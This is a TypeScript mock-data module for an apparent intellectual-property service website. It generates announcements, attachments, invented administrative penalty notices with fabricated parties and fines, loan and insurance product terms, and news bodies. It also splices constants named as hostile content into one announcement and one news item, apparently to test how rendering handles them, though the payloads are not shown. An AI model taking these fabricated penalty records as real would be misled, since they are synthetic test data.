  const random = createRandom(hashSeed(item.id));
  const year = Number(item.publishDate.slice(0, 4));
  let body = item.category === '政策解读' ? interpretationBody(item, random) : topicBody(item, random, year);
  if (item.id === HOSTILE_IDS.announcement) {
    // After the second section, so the hostile parts sit between real formatting.
    const cut = body.indexOf('<h2>三、');
    body = `${body.slice(0, cut)}${HOSTILE_ANNOUNCEMENT_PARTS}${body.slice(cut)}`;
  }
  return body;
}

function attachmentsOf(item: API.AnnouncementItem): API.Attachment[] {
  const random = createRandom(hashSeed(`${item.id}:files`));
  const names: Record<string, string[]> = {
    项目申报: ['申报指南.pdf', '项目申报书（模板）.docx', '申报汇总表.xlsx'],
    政策文件: ['政策全文.pdf'],
    通知公告: ['工作方案.pdf', '回执表.docx'],
    政策解读: [],
  };
  return (names[item.category] ?? []).map((name, index) => {
    const id = `${item.id}-${index + 1}`;
    return { name: `附件${index + 1}：${name}`, size: random.int(18, 2400) * 1024 + random.int(0, 1023), url: downloadUrl(id) };
  });
}

const link = (item: { id: string; title: string; publishDate?: string }): API.ContentLink => ({
  id: item.id,
  title: item.title,
  ...(item.publishDate ? { publishDate: item.publishDate } : {}),
});

function buildAnnouncementDetails(): Map<string, API.AnnouncementDetail> {
  const details = new Map<string, API.AnnouncementDetail>();
  // ANNOUNCEMENTS is newest first: the item after an entry is older (previous), the one before newer (next).
  ANNOUNCEMENTS.forEach((item, index) => {
    const older = ANNOUNCEMENTS[index + 1];
    const newer = ANNOUNCEMENTS[index - 1];
    details.set(item.id, {
      ...item,
      content: announcementBody(item),
      attachments: attachmentsOf(item),
      previous: older ? link(older) : null,
      next: newer ? link(newer) : null,
    });
  });
  return details;
}

/** The rule broken and the penalty basis of each violation type (the list's `legalBasis` joins them). */
const PROVISIONS: Record<string, { violated: string; basis: string }> = {
  擅自开展专利代理业务: { violated: '《专利代理条例》第九条', basis: '《专利代理条例》第二十七条' },
  代理非正常专利申请: {
    violated: '《规范申请专利行为的规定》第三条',
    basis: '《专利代理条例》第二十五条、《规范申请专利行为的规定》第十一条',
  },
  以不正当手段招揽业务: {
    violated: '《专利代理条例》第二十五条第一款',
    basis: '《专利代理条例》第二十五条、《专利代理管理办法》第四十条',
  },
  虚假宣传: { violated: '《中华人民共和国反不正当竞争法》第八条第一款', basis: '《中华人民共和国反不正当竞争法》第二十条第一款' },
};

const STREETS = ['凤凰路', '海陵南路', '青年南路', '永定路', '春晖路', '鼓楼南路', '长江大道', '人民路', '府前路', '迎春路'];

type FactsContext = { item: API.PunishmentItem; from: string; count: number; random: Random };

/**
 * How each violation was committed (issue 16: every penalty notice tells its own case). Each
 * violation type has several ways it happens in practice; a notice takes one by its seed and fills
 * in its party, period and figures.
 */
const FACT_PATTERNS: Record<string, ReadonlyArray<(context: FactsContext) => { facts: string[]; evidence: string[] }>> = {
  擅自开展专利代理业务: [
    ({ item, from, count, random }) => ({
      facts: [
        `经查，当事人${item.partyName}未取得专利代理机构执业许可证，自${from}起以“专利申请一站式服务”名义，通过网络平台推广和电话营销等方式承接专利申请代理业务${count}件，收取代理费用共计人民币${(count * random.int(18, 32) * 100).toLocaleString('en-US')}元。`,
        '当事人的上述行为属于擅自开展专利代理业务。案发后，当事人积极配合调查，如实陈述违法事实，并已停止相关业务。',
      ],
      evidence: ['现场检查笔录', '当事人询问笔录', '代理委托合同及收费凭证', '国家知识产权局专利检索记录', '网络推广页面截图'],
    }),
    ({ item, from, count, random }) => ({
      facts: [
        `经查，当事人${item.partyName}的经营范围不含专利代理，自${from}起借用已注销的专利代理机构名义，为${random.int(3, 9)}家企业办理专利申请${count}件，并以“项目申报包过”为由收取服务费。`,
        '当事人未取得专利代理机构执业许可证，其行为构成擅自开展专利代理业务，且借用他人名义逃避监管，情节较重。',
      ],
      evidence: ['企业登记档案', '委托方证人证言', '银行转账记录', '国家知识产权局代理机构信息查询结果'],
    }),
  ],
  代理非正常专利申请: [
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起代理的专利申请中，有${count}件被国家知识产权局认定为非正常专利申请，涉及申请人${random.int(3, 12)}家。`,
        '当事人在明知上述申请属于技术方案明显相同、拼凑变劣等非正常申请情形的情况下，仍为申请人提交申请，扰乱了专利申请秩序。',
      ],
      evidence: ['国家知识产权局非正常专利申请认定通知书', '代理委托合同', '当事人询问笔录', '申请文件及往来邮件'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起为完成客户“资助申报”需要，批量撰写实用新型专利申请${count}件，其中${random.int(5, 15)}件的附图和说明书系从已公开专利中简单替换部件名称而成。`,
        '上述申请被国家知识产权局认定为非正常专利申请后，当事人仍未按要求自查整改，继续以同样方式代理新申请。',
      ],
      evidence: ['非正常专利申请排查通知', '当事人内部撰写底稿', '专利代理师询问笔录', '客户资助申报材料'],
    }),
  ],
  以不正当手段招揽业务: [
    ({ from, count }) => ({
      facts: [
        `经查，当事人自${from}起在招揽业务时向${count}家企业承诺“保证授权、不授权全额退款”，并以明显低于成本的价格承接专利申请代理业务。`,
        '当事人的上述行为属于以不正当手段招揽业务，损害了委托人的合法权益和专利代理行业秩序。',
      ],
      evidence: ['宣传单页及报价单', '企业证人证言', '当事人询问笔录', '代理委托合同'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起冒用“市知识产权局推荐机构”名义，向${count}家企业发送“专利资助即将截止”的短信和函件，诱导企业委托其办理资助申报和专利申请，累计签订合同${random.int(5, 20)}份。`,
        '当事人以虚构政府推荐、制造紧迫感的方式招揽业务，属于以不正当手段招揽业务。',
      ],
      evidence: ['短信记录及函件原件', '受函企业证人证言', '代理委托合同', '市市场监督管理局出具的情况说明'],
    }),
  ],
  虚假宣传: [
    ({ from, count }) => ({
      facts: [
        `经查，当事人自${from}起在其网站和微信公众号宣称“国家知识产权局合作机构”“专利授权率100%”，并展示虚构的成功案例${count}件。`,
        '上述宣传内容无事实依据，对其服务能力作了虚假的商业宣传，欺骗、误导了相关公众。',
      ],
      evidence: ['网页及公众号页面电子数据取证记录', '当事人询问笔录', '国家知识产权局出具的情况说明'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起在招商展会和宣传册中宣称“累计代理专利${(count * 100).toLocaleString('en-US')}余件”“拥有专利代理师${random.int(20, 40)}名”，经核实，其实际代理专利不足${count * 10}件，执业专利代理师仅${random.int(1, 3)}名。`,
        '当事人对其经营规模和服务能力作虚假的商业宣传，欺骗、误导了相关公众。',
      ],
      evidence: ['宣传册及展会照片', '国家知识产权局代理数据查询结果', '专利代理师执业信息', '当事人询问笔录'],
    }),
  ],
};

function facts(item: API.PunishmentItem, random: Random): { facts: string; evidence: string[] } {
  const [y, m] = item.decisionDate.split('-').map(Number);
  const from = `${m > 6 ? y : y - 1}年${((m + 5) % 12) + 1}月`;
  const count = random.int(6, 48);
  const patterns = FACT_PATTERNS[item.violationType] ?? FACT_PATTERNS['虚假宣传'];
  const found = random.pick(patterns)({ item, from, count, random });
  return { facts: found.facts.join('\n'), evidence: found.evidence };
}

function buildPunishmentDetails(): Map<string, API.PunishmentDetail> {
  const details = new Map<string, API.PunishmentDetail>();
  for (const item of PUNISHMENTS) {
    const random = createRandom(hashSeed(item.id));
    const agency = AGENCIES.find((a) => a.name === item.partyName);
    const provisions = PROVISIONS[item.violationType] ?? { violated: item.legalBasis ?? '', basis: item.legalBasis ?? '' };
    const found = facts(item, random);
    const city = agency?.district.region === 'suzhou' ? '苏州市' : '泰州市';
    details.set(item.id, {
      ...item,
      partyCreditCode: item.partyCreditCode ?? agency?.creditCode ?? '',
      legalBasis: item.legalBasis ?? `违反${provisions.violated}，依据${provisions.basis}`,
      penaltyContent: item.penaltyContent ?? item.penaltyType,
      partyType: '法人及非法人组织',
      legalRepresentative: personName(random),
      partyAddress: `${city}${agency?.district.name ?? ''}${random.pick(STREETS)}${random.int(1, 288)}号${random.int(2, 18)}楼${random.int(1, 12)}0${random.int(1, 9)}室`,
      ...(agency?.licensed ? { agencyLicenceNo: `32${random.int(200, 399)}` /* Jiangsu agency codes start with 32 */ } : {}),
      facts: found.facts,
      evidence: found.evidence,
      violatedProvision: provisions.violated,
      penaltyBasis: provisions.basis,
      dataSource: item.authority,
    });
  }
  return details;
}

const PRODUCT_TERMS: Record<string, { term: string; conditions: string[]; extra: string }> = {
  专利质押贷款: {
    term: '1–3年，可循环使用',
    conditions: [
      '在泰州市注册的科技型中小企业或高新技术企业，经营正常、信用良好',
      '拥有权属清晰、处于有效期内的发明或实用新型专利，剩余保护期不少于5年',
      '专利与企业主营业务相关，且未被质押或许可他人独占实施',
      '企业及实际控制人无不良信用记录',
    ],
    extra: '贷款纳入泰州市知识产权质押融资风险补偿资金池，企业可按规定申请贴息补助。办理质押登记后最快5个工作日放款。',
  },
  知识产权保险: {
    term: '保险期间1年，可续保',
    conditions: [
      '投保专利为有效专利，且权属无争议',
      '投保企业在泰州市依法注册，近三年无重大知识产权违法记录',
      '如实告知专利的许可、质押及纠纷情况',
    ],
    extra: '符合条件的企业可申请市级知识产权保险保费补贴，补贴比例为实缴保费的50%。',
  },
  知识产权评估: {
    term: '受理后7–15个工作日出具报告',
    conditions: ['委托方为专利权人或经专利权人授权的单位', '提供专利证书、最近一次年费缴纳凭证和实施情况说明', '评估目的明确（质押融资、转让、作价入股等）'],
    extra: '评估采用收益法为主、市场法和成本法为辅，报告符合资产评估执业准则。',
  },
  专利托管: {
    term: '托管期1年起，期满可续',
    conditions: ['委托方拥有有效专利或处于审查中的专利申请', '签订托管服务协议并提供专利清单'],
    extra: '托管期间按月提供专利台账和年费缴纳提醒，重大事项24小时内通知委托方。',
  },
  知识产权证券化: {
    term: '产品期限2–3年',
    conditions: [
      '企业拥有可产生稳定许可收入的专利',
      '近两年营业收入持续增长，无重大诉讼和不良信用记录',
      '同意将专利许可给特殊目的载体并接受存续期管理',
    ],
    extra: '由市知识产权保护中心协助企业筛选入池专利，证券公司负责产品设计和发行。',
  },
  知识产权运营: {
    term: '按项目约定',
    conditions: ['交易标的为权属清晰的有效专利或专利申请', '委托方提供专利证书及权利人身份证明'],
    extra: '服务全程在泰州市知识产权一站式公共服务平台留痕，交易双方可随时查询办理进度。',
  },
};

function buildProductDetails(): Map<string, API.ProductDetail> {
  const details = new Map<string, API.ProductDetail>();
  for (const item of PRODUCTS_ITEMS) {
    const random = createRandom(hashSeed(item.id));
    const terms = PRODUCT_TERMS[item.category] ?? PRODUCT_TERMS['知识产权运营'];
    details.set(item.id, {
      ...item,
      term: terms.term,
      description: [item.summary ?? item.name, terms.extra].join('\n'),
      conditions: terms.conditions,
      contact: {
        name: personName(random),
        phone: contactPhone(random, 'taizhou'),
        address: `泰州市${random.pick(['海陵区', '高港区', '泰州医药高新区'])}${random.pick(STREETS)}${random.int(1, 288)}号`,
      },
    });
  }
  return details;
}

/** News bodies: the lead, two paragraphs on the subject, and, by turns, a list, a table and an image. */
function newsBody(item: API.NewsItem, index: number): string {
  const random = createRandom(hashSeed(item.id));
  const parts = [
    `<p>${item.summary ?? item.title}</p>`,
    `<p>据介绍，这是${item.source === '泰州市知识产权保护中心' ? '保护中心' : '我市'}贯彻落实知识产权强市建设行动方案的又一项具体举措。下一步，有关部门将总结经验做法，持续优化服务，推动知识产权更好地服务实体经济和创新发展。</p>`,
    '<h2>几点做法</h2>',
    list('ul', [
      '<strong>部门协同：</strong>市场监管、财政、金融监管等部门建立联动机制，定期会商解决企业诉求；',
      '<strong>服务前移：</strong>在重点园区设立服务站点，提供政策咨询、专利检索和维权指导；',
      '<strong>数据赋能：</strong>依托一站式公共服务平台，实现业务网上办、进度实时查。',
    ]),
  ];
  if (index % 2 === 0) {
    parts.push(
      table('相关数据', ['指标', '数值', '同比'], [
        ['服务企业（家次）', random.int(120, 900), `+${random.int(8, 35)}%`],
        ['办结事项（件）', random.int(40, 300), `+${random.int(5, 28)}%`],
      ]),
    );
  }
  if (index % 3 === 0) parts.push(figure('grant-trend', '全市发明专利授权量持续增长'));
  parts.push(`<p>（${item.source}）</p>`);
  let body = parts.join('');
  if (item.id === HOSTILE_IDS.news) body = body.replace('<h2>几点做法</h2>', `<h2>几点做法</h2>${HOSTILE_NEWS_PARTS}`);
  return body;
}

function buildNewsDetails(): Map<string, API.NewsDetail> {
  const details = new Map<string, API.NewsDetail>();
  NEWS_ITEMS.forEach((item, index) => {
    const random = createRandom(hashSeed(`${item.id}:author`));
    // Related: same source first, then the nearest in time; newest first.
    const related = NEWS_ITEMS.filter((other) => other.id !== item.id)
      .map((other, otherIndex) => ({ other, score: (other.source === item.source ? 0 : 100) + Math.abs(otherIndex - index) }))
      .sort((a, b) => a.score - b.score)
      .slice(0, 5)
      .map(({ other }) => other)
      .sort((a, b) => b.publishDate.localeCompare(a.publishDate))
      .map(link);
    details.set(item.id, {
      ...item,
      content: newsBody(item, index),
      ...(item.source.endsWith('日报') ? { author: `记者 ${personName(random)} 通讯员 ${personName(random)}` } : {}),
      related,
    });
  });
  return details;
}

export const ANNOUNCEMENT_DETAILS = buildAnnouncementDetails();
export const PUNISHMENT_DETAILS = buildPunishmentDetails();
export const PRODUCT_DETAILS = buildProductDetails();
export const NEWS_DETAILS = buildNewsDetails();

/** Every attachment by the id in its download URL. */
export const ATTACHMENTS = new Map(
  [...ANNOUNCEMENT_DETAILS.values()].flatMap((detail) =>
    detail.attachments.map((file) => [new URL(file.url, 'http://mock.local').searchParams.get('id') ?? '', file] as const),
  ),
);

// Umi loads every file under mock/ as a route map; this helper module declares no routes.
export default {};
